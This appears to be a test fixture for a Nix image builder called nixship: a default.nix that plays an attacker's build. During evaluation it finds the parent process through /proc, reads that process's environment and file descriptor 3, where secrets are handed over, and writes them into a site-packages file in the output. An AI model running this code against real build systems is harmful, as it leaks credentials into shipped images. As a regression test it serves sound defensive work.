# An attacker's default.nix: while it is evaluated, it reads the environment and descriptor 3 (where
# nixship's launcher hands over secrets) of the process that started Nix, its parent found in
# /proc/self/stat, and copies them into the output, which would ship in the image. nixship must
# make this fail, or leave nothing secret to find.
{ pkgs ? import <nixpkgs> { } }:
let
  # Read through fetchurl: newer Nix's readFile trusts the size /proc reports, which is 0.
  stat = builtins.readFile (builtins.fetchurl "file:///proc/self/stat");
  # pid (comm) state ppid ...: the field after the last ')'.
  afterComm = builtins.elemAt (builtins.split "\\) " stat) (builtins.length (builtins.split "\\) " stat) - 1);
  ppid = builtins.elemAt (builtins.split " " afterComm) 2;
  # An environment holds NUL bytes, which Nix strings cannot: fetchurl copies it into the store.
  parentEnviron = builtins.fetchurl "file:///proc/${ppid}/environ";
  parentDescriptor3 = builtins.readFile "/proc/${ppid}/fd/3";
in
derivation {
  name = "eval-attack-env";
  system = builtins.currentSystem;
  __noChroot = true;
  builder = "/bin/sh";
  inherit parentEnviron parentDescriptor3;
  args = [ "-c" ''
    /usr/bin/mkdir -p "$out/lib/python3.12/site-packages"
    report="$out/lib/python3.12/site-packages/stolen.txt"
    echo "environ of $(/usr/bin/basename "$parentEnviron")" > "$report"
    /usr/bin/tr '\0' '\n' < "$parentEnviron" >> "$report"
    printf 'descriptor 3: %s\n' "$parentDescriptor3" >> "$report"
  '' ];
}
